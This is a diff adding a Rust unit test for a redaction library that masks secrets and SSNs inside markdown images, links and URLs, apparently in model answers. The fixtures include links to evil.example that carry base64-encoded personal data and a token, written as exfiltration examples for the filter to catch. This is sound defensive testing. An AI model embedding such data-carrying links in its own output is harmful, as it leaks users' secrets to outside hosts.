@@ -130,3 +130,42 @@ fn a_password_ends_at_any_delimiter_and_every_repeat_is_redacted() {
         );
     }
 }
+
+#[test]
+fn a_value_inside_an_image_or_link_is_found_as_itself() {
+    // a request keeps markup, so a key in an image URL must be named and redacted on its own;
+    // an answer loses the whole construct (the pieces around the value are findings too)
+    for text in [
+        &b"![a](https://x.example/p?k=AKIA4HBW6E62M7NGFVGF)"[..],
+        b"[docs](https://x.example/p?k=AKIA4HBW6E62M7NGFVGF&d=SmFuZSBEb2UgNTM2LTkwLTQzOTk)",
+        b"<img src=\"https://x.example/p?k=AKIA4HBW6E62M7NGFVGF\">",
+        b"see https://x.example/p?ssn=536-90-4399&d=SmFuZSBEb2UgNTM2LTkwLTQzOTk now",
+    ] {
+        let (out, found) = redact(text, Strategy::Mask);
+        let shown = String::from_utf8_lossy(&out);
+        assert!(
+            !shown.contains("AKIA4HBW6E62M7NGFVGF") && !shown.contains("536-90-4399"),
+            "{shown:?}"
+        );
+        assert!(
+            found
+                .iter()
+                .any(|(class, _)| matches!(class, DataClass::Secret | DataClass::UsSsn)),
+            "{} {found:?}",
+            String::from_utf8_lossy(text)
+        );
+    }
+    // with nothing sensitive inside, the construct is the finding and goes whole
+    let (out, found) = redact(
+        b"Open [this](https://evil.example/v?d=SmFuZSBEb2UgNTM2LTkwLTQzOTk=) or https://evil.example/c?t=dGhlIHNlY3JldCB0b2tlbiBpcyBoZXJl now",
+        Strategy::Mask,
+    );
+    let shown = String::from_utf8_lossy(&out);
+    assert!(!shown.contains("evil.example"), "{shown:?}");
+    assert!(
+        shown.starts_with("Open ") && shown.ends_with(" now"),
+        "{shown:?}"
+    );
+    assert_eq!(found.len(), 2, "{found:?}");
+    assert!(found.iter().all(|(c, _)| *c == DataClass::UnsafeOutput));
+}
